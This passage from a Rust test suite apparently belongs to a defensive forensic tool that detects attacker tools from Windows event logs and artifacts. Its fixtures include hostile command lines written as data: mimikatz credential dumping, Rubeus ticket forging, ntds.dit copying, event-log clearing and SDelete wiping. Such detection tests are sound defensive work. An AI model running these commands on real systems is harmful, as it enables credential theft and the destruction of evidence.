    // Pass-the-key is not also the NTLM remote login.
    let aes = "x64.exe \"sekurlsa::pth /user:admin /domain:example /aes256:0123456789abcdef /run:cmd.exe\"";
    assert_quiet(
        aes,
        vec![sysmon_start(renamed, "mimikatz.exe", aes, CMD)],
        "remotelogin_mimikatz",
        None,
    );
    // Two modules in one run: each is a finding, no family.
    let both = "x64.exe \"sekurlsa::logonpasswords\" \"lsadump::sam\" exit";
    for key in [
        "mimikatz_sekurlsa_logonpasswords:source",
        "mimikatz_lsadump_sam:source",
    ] {
        assert_found(
            both,
            vec![sysmon_start(renamed, "mimikatz.exe", both, CMD)],
            key,
            Likely,
        );
    }
    assert_quiet(
        both,
        vec![sysmon_start(renamed, "mimikatz.exe", both, CMD)],
        "mimikatz",
        None,
    );
    assert_found(
        "renamed, no module on the command line",
        vec![sysmon_start(renamed, "mimikatz.exe", "x64.exe", CMD)],
        "mimikatz:source",
        Likely,
    );
    assert_found(
        "Amcache only, renamed",
        vec![amcache(renamed, Some("mimikatz.exe"))],
        "mimikatz:source",
        Likely,
    );
    assert_found(
        "Invoke-Mimikatz, script block",
        vec![script_block(
            "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
        )],
        "invoke_mimikatz:source",
        Likely,
    );
    assert_found(
        "WCE's service via 4697",
        vec![record(
            "Security",
            4697,
            &[
                ("ServiceName", "WCESERVICE"),
                (
                    "ServiceFileName",
                    "C:\\Users\\alice\\AppData\\Local\\Temp\\wce_x.exe -S",
                ),
            ],
        )],
        "remotelogin_wce:source",
        Likely,
    );
    assert_found(
        "mimidrv via 4697",
        vec![record(
            "Security",
            4697,
            &[
                ("ServiceName", "mimidrv"),
                ("ServiceFileName", "C:\\Users\\alice\\mimidrv.sys"),
            ],
        )],
        "mimikatz:source",
        Likely,
    );
    // Benign twins: an ordinary renamed-looking program, lsass read by the AV.
    for obs in [
        sysmon_start(
            "C:\\Program Files\\KeePass\\KeePass.exe",
            "KeePass.exe",
            "\"C:\\Program Files\\KeePass\\KeePass.exe\"",
            "C:\\Windows\\explorer.exe",
        ),
        record(
            SYSMON,
            10,
            &[
                (
                    "SourceImage",
                    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe",
                ),
                ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                ("GrantedAccess", "0x1410"),
            ],
        ),
    ] {
        let found = embedded_confidences(vec![obs]);
        assert!(
            !found.keys().any(|k| k.contains("mimikatz")
                || k.starts_with("dcsync")
                || k.starts_with("golden")),
            "{found:?}"
        );
    }
}

#[test]
fn ntds_copies_in_other_witnesses() {
    let _review = Review;
    for (image, command_line, key) in [
        (
            "C:\\Windows\\System32\\ntdsutil.exe",
            "\"C:\\Windows\\system32\\ntdsutil.exe\" \"ac in ntds\" \"ifm\" \"cr fu c:\\temp\\x\" q q",
            "ntdsutil:dc",
        ),
        (
            "C:\\Windows\\System32\\ntdsutil.exe",
            "ntdsutil snapshot \"activate instance ntds\" create quit quit",
            "ntdsutil:dc",
        ),
        (
            "C:\\Windows\\System32\\vssadmin.exe",
            "\"C:\\Windows\\system32\\vssadmin.exe\" create shadow /for=C:",
            // One host, no DC in these records: the host that ran it (`one_host`).
            "vssadmin:source",
        ),
        (
            CMD,
            "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit",
            "vssadmin:dc",
        ),
        (
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic shadowcopy call create Volume=C:\\",
            "vssadmin:source",
        ),
    ] {
        assert_found(
            command_line,
            vec![security_start(image, Some(command_line), Some(CMD))],
            key,
            Likely,
        );
    }
    assert_found(
        "Win32_ShadowCopy Create, script block",
        vec![script_block(
            "(Get-WmiObject -List Win32_ShadowCopy).Create('C:\\', 'ClientAccessible')",
        )],
        "vssadmin:source",
        Likely,
    );
    assert_quiet(
        "Win32_ShadowCopy listed, script block",
        vec![script_block(
            "Get-WmiObject Win32_ShadowCopy | Select-Object ID, InstallDate",
        )],
        "vssadmin",
        None,
    );
    // Benign twins: shadow copies listed, ntdsutil's metadata cleanup.
    assert_quiet(
        "vssadmin list",
        vec![security_start(
            "C:\\Windows\\System32\\vssadmin.exe",
            Some("vssadmin list shadows"),
            Some(CMD),
        )],
        "vssadmin",
        Some(Possible),
    );
    assert_quiet(
        "wmic shadowcopy list",
        vec![security_start(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            Some("wmic shadowcopy list brief"),
            Some(CMD),
        )],
        "vssadmin",
        None,
    );
    assert_quiet(
        "ntdsutil metadata cleanup",
        vec![security_start(
            "C:\\Windows\\System32\\ntdsutil.exe",
            Some("ntdsutil \"metadata cleanup\" q"),
            Some(CMD),
        )],
        "ntdsutil",
        Some(Possible),
    );
}

#[test]
fn log_clearing_in_other_witnesses() {
    let _review = Review;
    let wevtutil = "C:\\Windows\\System32\\wevtutil.exe";
    for command_line in [
        "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security",
        "wevtutil.exe clear-log \"Microsoft-Windows-Sysmon/Operational\"",
        "WEVTUTIL CL System",
    ] {
        assert_found(
            command_line,
            vec![security_start(wevtutil, Some(command_line), Some(CMD))],
            "wevtutil:source",
            Likely,
        );
    }
    assert_found(
        "renamed wevtutil",
        vec![sysmon_start(
            "C:\\Users\\Public\\w.exe",
            "wevtutil.exe",
            "w.exe cl Security",
            CMD,
        )],
        "wevtutil:source",
        Likely,
    );
    for command_line in [
        "powershell.exe -c \"Clear-EventLog -LogName Security\"",
        "powershell -nop -c Get-EventLog -List | % { Clear-EventLog $_.Log }",
        "powershell [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
    ] {
        assert_found(
            command_line,
            vec![security_start(POWERSHELL, Some(command_line), Some(CMD))],
            "wevtutil:source",
            Likely,
        );
    }
    assert_found(
        "Clear-EventLog, script block",
        vec![script_block("Clear-EventLog -LogName Application,System")],
        "wevtutil:source",
        Likely,
    );
    // Benign twins: queries, manifests, and a cleared log alone (no tool named).
    for command_line in ["wevtutil qe Security /c:5 /f:text", "wevtutil gl Security"] {
        assert_quiet(
            command_line,
            vec![security_start(wevtutil, Some(command_line), Some(CMD))],
            "wevtutil",
            Some(Possible),
        );
    }
    // Administration: wevtutil asked only to read, export or list.
    for command_line in [
        "wevtutil qe System /c:5 /rd:true /f:text",
        "\"C:\\Windows\\system32\\wevtutil.exe\" epl Security C:\\backup\\sec.evtx",
        "wevtutil.exe gli Application",
        "wevtutil el",
    ] {
        assert_quiet(
            command_line,
            vec![security_start(wevtutil, Some(command_line), Some(CMD))],
            "wevtutil",
            None,
        );
    }
    assert_quiet(
        "manifest install",
        vec![security_start(
            wevtutil,
            Some("wevtutil.exe im C:\\ProgramData\\x.man"),
            Some("C:\\Windows\\servicing\\TrustedInstaller.exe"),
        )],
        "wevtutil",
        None,
    );
    assert_quiet(
        "1102 alone",
        vec![record("Security", 1102, &[("SubjectUserName", "alice")])],
        "wevtutil",
        None,
    );
    assert_quiet(
        "Get-EventLog",
        vec![script_block("Get-EventLog -LogName Security -Newest 10")],
        "wevtutil",
        None,
    );
}

#[test]
fn anti_forensics_in_other_witnesses() {
    let _review = Review;
    assert_found(
        "renamed SDelete",
        vec![sysmon_start(
            "C:\\Users\\Public\\sd.exe",
            "sdelete.exe",
            "sd.exe -accepteula -p 3 C:\\Users\\Public\\loot.zip",
            CMD,
        )],
        "sdelete:source",
        Likely,
    );
    assert_found(
        "SDelete64, 4688 without command line",
        vec![security_start("C:\\Tools\\sdelete64.exe", None, None)],
        "sdelete:source",
        Likely,
    );
    assert_found(
        "SDelete's EULA value only (registry)",
        vec![plain(Observed::Registry {
            hive: crate::traces::Hive::Ntuser,
            key: "Software\\Sysinternals\\SDelete".into(),
            value: Some("EulaAccepted".into()),
            data: Some("1".into()),
        })],
        "sdelete:source",
        Likely,
    );
    assert_found(
        "timestomp, Prefetch only",
        vec![prefetch("TIMESTOMP.EXE-1A2B3C4D.pf")],
        "timestomp:source",
        Likely,
    );
    // Benign twins: cipher's free-space wipe, a file time changed by an installer.
    assert_quiet(
        "cipher /w",
        vec![security_start(
            "C:\\Windows\\System32\\cipher.exe",
            Some("cipher /w:C:\\"),
            Some(CMD),
        )],
        "sdelete",
        None,
    );
    assert_quiet(
        "Sysmon 2 by an installer",
        vec![record(
            SYSMON,
            2,
            &[
                ("Image", "C:\\Windows\\System32\\msiexec.exe"),
                ("TargetFilename", "C:\\Program Files\\X\\x.dll"),
            ],
        )],
        "timestomp",
        None,
    );
}

/// Logons by themselves, NTLM or Kerberos, type 3: supporting records, no tool.
#[test]
fn network_logons_alone_name_no_tool() {
    let _review = Review;
    for package in ["NTLM", "Kerberos"] {
        let obs = vec![record(
            "Security",
            4624,
            &[
                ("LogonType", "3"),
                ("TargetUserName", "admin"),
                ("AuthenticationPackageName", package),
                (
                    "LogonProcessName",
                    if package == "NTLM" {
                        "NtLmSsp"
                    } else {
                        "Kerberos"
                    },
                ),
            ],
        )];
        assert!(embedded_confidences(obs).is_empty(), "{package}");
    }
}

/// Offline witnesses alone: a task or a service seen only as a registry definition, a
/// Sysinternals EULA value written by a renamed copy, an execution artifact of a
/// renamed service binary, mimikatz reading lsass.
/// Windows Update renames, replaces and re-links the programs Windows ships: the
/// change journal's rows of such a program's own file name no tool; its Prefetch
/// file's rows (the program ran) still do.
#[test]
fn servicing_a_windows_program_is_not_running_it() {
    let _review = Review;
    let usn = |name: &str, reasons: &[&str]| {
        plain(Observed::Usn {
            name: name.into(),
            reasons: reasons.iter().map(|r| r.to_string()).collect(),
        })
    };
    assert_quiet(
        "nltest.exe renamed and its EA changed by servicing",
        vec![
            usn("nltest.exe", &["RENAME_OLD_NAME"]),
            usn("nltest.exe", &["RENAME_NEW_NAME", "CLOSE"]),
            usn("nltest.exe", &["EA_CHANGE", "CLOSE"]),
        ],
        "nltest",
        None,
    );
    assert_found(
        "nltest's Prefetch file created",
        vec![usn("NLTEST.EXE-5F4A3B2C.pf", &["FILE_CREATE"])],
        "nltest:source",
        Possible,
    );
}

#[test]
fn offline_and_secondary_witnesses() {
    let _review = Review;
    assert_found(
        "TaskCache entry of an attacker's task",
        vec![plain(Observed::Task {
            name: "\\bouWFQYO".into(),
            command: "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1".into(),
        })],
        "schtasks:destination",
        Possible,
    );
    assert_quiet(
        "TaskCache entry of Windows' own task",
        vec![plain(Observed::Task {
            name: "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag".into(),
            command: "%windir%\\system32\\defrag.exe -c -h -o -$".into(),
        })],
        "schtasks",
        None,
    );
    assert_found(
        "Services key of PSEXESVC, full image path",
        vec![plain(Observed::Service {
            name: "PSEXESVC".into(),
            image_path: "C:\\Windows\\PSEXESVC.exe".into(),
        })],
        "psexec:destination",
        Likely,
    );
    for (key, tool) in [
        (
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\PsExec\\EulaAccepted",
            "psexec:source",
        ),
        (
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\SDelete\\EulaAccepted",
            "sdelete:source",
        ),
    ] {
        assert_found(
            key,
            vec![record(
                SYSMON,
                13,
                &[
                    ("EventType", "SetValue"),
                    ("Image", "C:\\Users\\Public\\renamed.exe"),
                    ("TargetObject", key),
                    ("Details", "DWORD (0x00000001)"),
                ],
            )],
            tool,
            Likely,
        );
    }
    assert_quiet(
        "another Sysinternals tool's EULA",
        vec![record(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", "C:\\Tools\\procexp64.exe"),
                (
                    "TargetObject",
                    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Sysinternals\\Process Explorer\\EulaAccepted",
                ),
                ("Details", "DWORD (0x00000001)"),
            ],
        )],
        "psexec",
        None,
    );
    assert_found(
        "Amcache of a renamed PSEXESVC",
        vec![amcache("C:\\Windows\\svcupd.exe", Some("psexesvc.exe"))],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "mimikatz reading lsass, Sysmon 10",
        vec![record(
            SYSMON,
            10,
            &[
                ("SourceImage", "C:\\Users\\alice\\mimikatz.exe"),
                ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                ("GrantedAccess", "0x1010"),
            ],
        )],
        "mimikatz:source",
        Likely,
    );
    for (image, original, command_line, key) in [
        (
            "C:\\Users\\Public\\st.exe",
            "schtasks.exe",
            "st.exe /create /tn x /tr c:\\x.exe /sc onstart /ru system",
            "schtasks:source",
        ),
        (
            "C:\\Users\\Public\\v.exe",
            "VSSADMIN.EXE",
            "v.exe create shadow /for=C:",
            // No DC in these records and no AD database named: the host that ran it.
            "vssadmin:source",
        ),
        (
            "C:\\Users\\Public\\b.exe",
            "bitsadmin.exe",
            "b.exe /transfer j http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe",
            "bits:source",
        ),
    ] {
        assert_found(
            command_line,
            vec![sysmon_start(image, original, command_line, CMD)],
            key,
            Likely,
        );
    }
}

/// Sysmon before version 10 records no OriginalFileName, only Description, Product and
/// Company: a renamed tool whose product is its one-word name is still found; a
/// product of several words names no program (PSEXESVC.exe is "Sysinternals PsExec"
/// too, and must not become PsExec's client), an ordinary product names no tool.
#[test]
fn older_sysmon_names_a_renamed_tool_by_its_product() {
    let _review = Review;
    let old_sysmon = |image: &str, product: &str, description: &str| {
        record(
            SYSMON,
            1,
            &[
                ("Image", image),
                ("CommandLine", image),
                ("Description", description),
                ("Product", product),
                ("ParentImage", CMD),
            ],
        )
    };
    assert_found(
        "renamed mimikatz, Sysmon 9",
        vec![old_sysmon(
            "C:\\Users\\alice\\AppData\\Local\\Temp\\x64.exe",
            "mimikatz",
            "mimikatz for Windows",
        )],
        "mimikatz:source",
        Likely,
    );
    let found = embedded_confidences(vec![old_sysmon(
        "C:\\Windows\\PSEXESVC.exe",
        "Sysinternals PsExec",
        "PsExec Service",
    )]);
    if !found.contains_key("psexec:destination") || found.contains_key("psexec:source") {
        miss(format!("PSEXESVC with its product: {found:?}"));
    }
    assert_quiet(
        "an ordinary one-word product",
        vec![old_sysmon("C:\\Users\\alice\\m.exe", "Firefox", "Firefox")],
        "mimikatz",
        None,
    );
}

/// A host whose logs are gone: Prefetch alone names each tool (its own program
/// `likely`, a Windows program the tool runs as only `possible`); an ordinary
/// program's Prefetch names nothing.
#[test]
fn prefetch_alone_names_the_tool() {
    let _review = Review;
    for (file, key, min) in [
        ("MIMIKATZ.EXE-5F1A2B3C.pf", "mimikatz:source", Likely),
        ("PSEXEC64.EXE-0A1B2C3D.pf", "psexec:source", Likely),
        ("SDELETE64.EXE-11223344.pf", "sdelete:source", Likely),
        ("LSLSASS64.EXE-1A2B3C4D.pf", "lslsass:source", Likely),
        ("GSECDUMP-V2B5.EXE-5E6F7A8B.pf", "gsecdump:source", Likely),
        ("WEVTUTIL.EXE-4E5F6A7B.pf", "wevtutil:source", Possible),
        ("BITSADMIN.EXE-8C9DAEBF.pf", "bits:source", Possible),
        ("WMIC.EXE-C0D1E2F3.pf", "wmic:source", Possible),
        ("NTDSUTIL.EXE-01020304.pf", "ntdsutil:dc", Possible),
        ("WINRS.EXE-05060708.pf", "winrs:source", Possible),
    ] {
        assert_found(file, vec![prefetch(file)], key, min);
    }
    for file in ["NOTEPAD.EXE-D8414F97.pf", "SVCHOST.EXE-1234ABCD.pf"] {
        let found = embedded_confidences(vec![prefetch(file)]);
        if !found.is_empty() {
            miss(format!("{file}: {found:?}"));
        }
    }
}

/// Remote service control with sc.exe and Impacket's secretsdump are no sheet tool:
/// their records (sc's command line, the remote registry started, winreg and svcctl
/// opened on IPC$, the hive saved to a temporary file) name no tool of the sheets and
/// nothing is confirmed.
#[test]
fn remote_service_control_and_secretsdump_name_no_sheet_tool() {
    let _review = Review;
    let obs = vec![
        security_start(
            "C:\\Windows\\System32\\sc.exe",
            Some("sc \\\\fs02 create upd binPath= \"cmd.exe /c C:\\Users\\Public\\x.exe\" start= demand"),
            Some(CMD),
        ),
        record(
            "System",
            7036,
            &[("param1", "Remote Registry"), ("param2", "running")],
        ),
        record(
            "Security",
            5145,
            &[("ShareName", "\\\\*\\IPC$"), ("RelativeTargetName", "winreg")],
        ),
        record(
            "Security",
            5145,
            &[("ShareName", "\\\\*\\IPC$"), ("RelativeTargetName", "svcctl")],
        ),
        record(
            "Security",
            5145,
            &[
                ("ShareName", "\\\\*\\ADMIN$"),
                ("RelativeTargetName", "Temp\\pXkRtQwa.tmp"),
            ],
        ),
    ];
    let found = embedded_confidences(obs);
    if !found.is_empty() {
        miss(format!("sc / secretsdump: {found:?}"));
    }
}

/// Rubeus is the program of three sheet tools; its first argument is the command
/// that ran. A command that makes one of them names it (under a renamed copy too,
/// by its PE name); a command that is none of them (kerberoasting) leaves the
/// program's family finding, never one of its members; the word elsewhere (a file
/// called `diamond`) names nothing.
#[test]
fn rubeus_commands_name_their_tool() {
    let _review = Review;
    let rubeus = "C:\\Users\\alice\\Downloads\\Rubeus.exe";
    let renamed = "C:\\Users\\alice\\AppData\\Local\\Temp\\r.exe";
    for (command_line, key) in [
        (
            "Rubeus.exe diamond /tgtdeleg /ticketuser:svc /ticketuserid:1104 /groups:512",
            "diamond_ticket:source",
        ),
        (
            "Rubeus.exe asktgt /user:bob /rc4:64f12cddaa88057e06a81b54e73b949b /ptt",
            "overpass_the_hash:source",
        ),
        (
            "Rubeus.exe asktgt /user:bob /aes256:b54e73b949b64f12cddaa88057e06a81b54e73b949b64f12cddaa88057e06a8 /opsec",
            "overpass_the_hash:source",
        ),
        (
            "Rubeus.exe asktgs /targetuser:dmsa$ /service:krbtgt/corp.local /dmsa /nowrap /ptt /ticket:doIF",
            "badsuccessor:source",
        ),
    ] {
        for image in [rubeus, renamed] {
            let start = sysmon_start(image, "Rubeus.exe", command_line, CMD);
            assert_found(command_line, vec![start.clone()], key, Likely);
            // The named member alone: the others shared only the program's traces.
            for other in ["diamond_ticket", "overpass_the_hash", "badsuccessor", "rubeus"] {
                if !key.starts_with(other) {
                    assert_quiet(command_line, vec![start.clone()], other, None);
                }
            }
        }
        assert_found(
            "4688",
            vec![security_start(rubeus, Some(command_line), None)],
            key,
            Likely,
        );
    }
    // Kerberoasting and an ordinary TGT request are no member: the family stays.
    for command_line in [
        "Rubeus.exe kerberoast /outfile:hashes.txt",
        "Rubeus.exe asktgt /user:bob /password:Summer2024",
    ] {
        let start = || vec![sysmon_start(rubeus, "Rubeus.exe", command_line, CMD)];
        assert_found(command_line, start(), "rubeus:source", Likely);
        for member in ["diamond_ticket", "overpass_the_hash", "badsuccessor"] {
            assert_quiet(command_line, start(), member, None);
        }
    }
    // Benign twin: the word as another program's argument.
    assert_quiet(
        "notepad diamond",
        vec![sysmon_start(
            "C:\\Windows\\System32\\notepad.exe",
            "NOTEPAD.EXE",
            "notepad.exe diamond",
            "C:\\Windows\\explorer.exe",
        )],
        "diamond_ticket",
        None,
    );
}

/// The directory's command-line clients ran on the DC in the sheets; on a
/// workstation the host that ran them is the source. Only a host whose records
/// show a DC (here its KDC's ticket event) gets the `dc` role, and either way one
/// finding is reported.
#[test]
fn directory_clients_take_the_role_of_the_host_that_ran_them() {
    let _review = Review;
    let kdc_ticket = record(
        "Security",
        4769,
        &[
            ("TargetUserName", "alice@EXAMPLE.LAN"),
            ("ServiceName", "krbtgt"),
            ("Status", "0x0"),
        ],
    );
    for (program, command_line) in [
        ("dsquery.exe", "dsquery computer -limit 0"),
        ("csvde.exe", "csvde -f C:\\Users\\alice\\ad.csv"),
        ("ldifde.exe", "ldifde -f C:\\Users\\alice\\ad.ldf"),
    ] {
        let tool = program.trim_end_matches(".exe");
        let image = format!("C:\\Windows\\System32\\{program}");
        let start = security_start(&image, Some(command_line), Some(CMD));
        let workstation = embedded_confidences(vec![start.clone()]);
        let dc = embedded_confidences(vec![start, kdc_ticket.clone()]);
        for (found, role, other) in [(workstation, "source", "dc"), (dc, "dc", "source")] {
            if !found.contains_key(&format!("{tool}:{role}"))
                || found.contains_key(&format!("{tool}:{other}"))
            {
                miss(format!("{program} as {role}: {found:?}"));
            }
        }
    }
}

#[test]
fn mimilib_loaded_by_the_lsa_is_mimikatz() {
    let _review = Review;
    // The LSA names each package it loads at boot in the security-system-extension
    // audit: mimilib registered as an authentication, notification or security package.
    for (id, field) in [
        (4610, "AuthenticationPackageName"),
        (4614, "NotificationPackageName"),
        (4622, "SecurityPackageName"),
    ] {
        assert_found(
            &format!("Security {id} mimilib"),
            vec![record(
                "Security",
                id,
                &[(field, "C:\\Windows\\system32\\mimilib.dll : mimilib")],
            )],
            "mimikatz:source",
            Likely,
        );
        // Windows' own packages load at every boot.
        assert_quiet(
            &format!("Security {id} msv1_0"),
            vec![record(
                "Security",
                id,
                &[(
                    field,
                    "C:\\Windows\\system32\\msv1_0.DLL : MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                )],
            )],
            "mimikatz",
            None,
        );
    }
}

#[test]
fn an_rdp_client_seen_by_the_filtering_platform_is_the_rdp_source() {
    let _review = Review;
    let connection = |application: &str| {
        vec![record(
            "Security",
            5156,
            &[
                ("Application", application),
                ("Direction", "%%14593"),
                ("DestAddress", "10.0.0.5"),
                ("DestPort", "3389"),
                ("Protocol", "6"),
            ],
        )]
    };
    assert_found(
        "5156 of mstsc.exe",
        connection("\\device\\harddiskvolume2\\windows\\system32\\mstsc.exe"),
        "mstsc:source",
        Possible,
    );
    assert_quiet(
        "5156 of a browser",
        connection("\\device\\harddiskvolume2\\program files\\browser\\browser.exe"),
        "mstsc",
        None,
    );
}

#[test]
fn an_rdp_client_hosting_mstscs_control_and_sharphounds_script_form() {
    let _review = Review;
    let servers = "HKU\\S-1-5-21-1-1001\\Software\\Microsoft\\Terminal Server Client\\Servers\\10.0.0.5\\UsernameHint";
    assert_found(
        "Sysmon 13 Servers key by SharpRDP",
        vec![record(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", "C:\\Tools\\SharpRDP.exe"),
                ("TargetObject", servers),
            ],
        )],
        "mstsc:source",
        Possible,
    );
    // SharpRDP itself is an RDP client: whatever it does names RDP from its host.
    assert_found(
        "Sysmon 1 of SharpRDP",
        vec![record(
            SYSMON,
            1,
            &[
                ("Image", "C:\\Tools\\SharpRDP.exe"),
                (
                    "CommandLine",
                    "SharpRDP.exe computername=dc01 command=\"cmd /c whoami\"",
                ),
            ],
        )],
        "mstsc:source",
        Possible,
    );
    // Another program's settings under the client's key (its window position, its
    // bitmap cache) are not a connection.
    assert_quiet(
        "Sysmon 13 Terminal Server Client settings",
        vec![record(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", "C:\\Tools\\client.exe"),
                (
                    "TargetObject",
                    "HKU\\S-1-5-21-1-1001\\Software\\Microsoft\\Terminal Server Client\\LocalDevices\\x",
                ),
            ],
        )],
        "mstsc",
        None,
    );
    assert_found(
        "4104 Invoke-BloodHound",
        vec![script_block(
            "Invoke-BloodHound -CollectionMethod All -Domain example.local",
        )],
        "sharphound:source",
        Likely,
    );
}

#[test]
fn programs_that_run_only_for_rdp_or_winrs_name_them_by_any_event() {
    let _review = Review;
    let acting = |id: u32, image: &str, extra: (&str, &str)| {
        vec![record(SYSMON, id, &[("Image", image), extra])]
    };
    // A file the RDP client wrote: one the session host sent through drive
    // redirection (a Startup-folder drop, seen on the client).
    assert_found(
        "Sysmon 11 by mstsc.exe",
        acting(
            11,
            "C:\\Windows\\System32\\mstsc.exe",
            (
                "TargetFilename",
                "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe",
            ),
        ),
        "mstsc:source",
        Possible,
    );
    assert_found(
        "Sysmon 1 of rdpclip.exe",
        acting(
            1,
            "C:\\Windows\\System32\\rdpclip.exe",
            ("ParentImage", "C:\\Windows\\System32\\svchost.exe"),
        ),
        "mstsc:destination",
        Possible,
    );
    assert_found(
        "Sysmon 22 by winrs.exe",
        acting(
            22,
            "C:\\Windows\\System32\\winrs.exe",
            ("QueryName", "srv01.example.local"),
        ),
        "winrs:source",
        Possible,
    );
    // Programs Windows runs for many reasons say nothing by acting alone.
    assert_quiet(
        "Sysmon 11 by wmic.exe",
        acting(
            11,
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            ("TargetFilename", "C:\\Windows\\Temp\\out.txt"),
        ),
        "wmic",
        None,
    );
}

/// SDelete renames a file through all-A ... all-Z names of the original's length
/// before deleting it: the sheet's 3.3 names are one length among many, and the
/// deletion Sysmon does not archive is event 26, by whatever the copy is called.
#[test]
fn sdeletes_renames_of_any_length_and_either_deletion_event() {
    let _review = Review;
    let deleted = |id: u32| {
        vec![record(
            SYSMON,
            id,
            &[
                ("Image", "C:\\Users\\Public\\sd.exe"),
                ("TargetFilename", "C:\\Users\\Public\\ZZZZZZZZZZZZ.ZZZ"),
                ("IsExecutable", "false"),
                ("Archived", "false"),
            ],
        )]
    };
    assert_found(
        "Sysmon 23 of a renamed copy",
        deleted(23),
        "sdelete:source",
        Likely,
    );
    assert_found(
        "Sysmon 26 of a renamed copy",
        deleted(26),
        "sdelete:source",
        Likely,
    );
    assert_found(
        "the change journal's first rename of a 12.3 name",
        vec![plain(Observed::Usn {
            name: "AAAAAAAAAAAA.AAA".into(),
            reasons: vec!["RENAME_NEW_NAME".into()],
        })],
        "sdelete:source",
        Likely,
    );
    assert_quiet(
        "an ordinary deletion",
        vec![record(
            SYSMON,
            26,
            &[
                ("Image", "C:\\Windows\\explorer.exe"),
                ("TargetFilename", "C:\\Users\\a\\Desktop\\notes.txt"),
            ],
        )],
        "sdelete",
        None,
    );
}

/// Sysmon 14 and later report an executable's creation as event 29 where so
/// configured: the same fact as the sheets' event 11.
#[test]
fn an_executable_written_is_the_same_fact_in_sysmon_11_and_29() {
    let _review = Review;
    for id in [11, 29] {
        assert_found(
            &format!("Sysmon {id} of DumpSvc.exe written by System"),
            vec![record(
                SYSMON,
                id,
                &[
                    ("Image", "System"),
                    ("TargetFilename", "C:\\Windows\\System32\\DumpSvc.exe"),
                ],
            )],
            "pwdumpx:destination",
            Possible,
        );
    }
}

/// Microsoft Defender's detections name a tool by its signature family: the file
/// was on the host, whatever it was called. But a detection is no run (the corpus
/// log's mimikatz was only browsed by explorer.exe, and blocked): alone it names
/// nothing; beside a run it is one more witness.
#[test]
fn defender_detections_support_a_run_and_alone_name_nothing() {
    let _review = Review;
    let detected = |id: u32, threat: &str| {
        record(
            "Microsoft-Windows-Windows Defender/Operational",
            id,
            &[
                ("Threat Name", threat),
                ("Path", "file:_C:\\Users\\Public\\x.exe"),
                ("Process Name", "C:\\Windows\\explorer.exe"),
            ],
        )
    };
    for (id, threat, tool) in [
        (1116, "HackTool:Win64/Mikatz!dha", "mimikatz"),
        (1117, "HackTool:Win32/Mimikatz.D", "mimikatz"),
        (1116, "HackTool:PowerShell/Mimikatz.A", "invoke_mimikatz"),
        (1116, "HackTool:MSIL/SharpHound!MTB", "sharphound"),
    ] {
        assert_quiet(threat, vec![detected(id, threat)], tool, None);
    }
    // Beside mimikatz's own start, the detection is one more witness of the finding.
    let run = sysmon_start(
        "C:\\Users\\Public\\x.exe",
        "mimikatz.exe",
        "x.exe privilege::debug exit",
        CMD,
    );
    let supporting = |obs: Vec<Observation>| {
        let profile = HostProfile::from_observations(&obs);
        evaluate(super::tests::embedded(), obs, &profile)
            .into_iter()
            .find(|f| f.tool_id == "mimikatz")
            .map(|f| f.matched_supporting)
    };
    let alone = supporting(vec![run.clone()]).expect("the run names mimikatz");
    let with = supporting(vec![run, detected(1116, "HackTool:Win64/Mikatz!dha")]);
    assert_eq!(with, Some(alone + 1));
}

/// Facts the rules held through one witness, seen through another (session 17): the
/// RDP server stack's per-connection records, the WinRM service authenticating a
/// client, a task changed to run a shell or registered on another host from
/// PowerShell, Out-Minidump's code logged without its name, and a script setting a
/// creation time. Each has its benign twin beside it.
#[test]
fn connection_task_dump_and_timestamp_facts_in_other_witnesses() {
    let _review = Review;
    let rdpcore = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational";
    for id in [65, 98, 104, 168] {
        assert_found(
            &format!("RdpCoreTS {id}"),
            vec![record(rdpcore, id, &[])],
            "mstsc:destination",
            Possible,
        );
    }
    // The listener loading at boot is no connection.
    assert_quiet(
        "RdpCoreTS 69",
        vec![record(rdpcore, 69, &[])],
        "mstsc",
        None,
    );
    assert_found(
        "WinRM 169",
        vec![record(
            "Microsoft-Windows-WinRM/Operational",
            169,
            &[
                ("username", "CORP\\admin"),
                ("authenticationMechanism", "Kerberos"),
            ],
        )],
        "winrm:destination",
        Possible,
    );
    let task_update = |user: &str, name: &str, command: &str| {
        record(
            "Security",
            4702,
            &[
                ("SubjectUserName", user),
                ("TaskName", name),
                (
                    "TaskContentNew",
                    &format!(
                        "<Task><Actions><Exec><Command>{command}</Command></Exec></Actions></Task>"
                    ),
                ),
            ],
        )
    };
    assert_found(
        "a Windows task hijacked to run cmd",
        vec![task_update(
            "admin",
            "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask",
            "C:\\Windows\\System32\\cmd.exe",
        )],
        "schtasks:destination",
        Possible,
    );
    assert_found(
        "a task changed to a program under Users",
        vec![task_update(
            "admin",
            "\\Updater",
            "C:\\Users\\Public\\u.exe",
        )],
        "schtasks:destination",
        Possible,
    );
    for (what, obs) in [
        (
            "servicing changing a Windows task",
            task_update("SYSTEM", "\\Microsoft\\Windows\\UpdateOrchestrator\\Reboot", "%systemroot%\\system32\\cmd.exe"),
        ),
        (
            "a user's updater task",
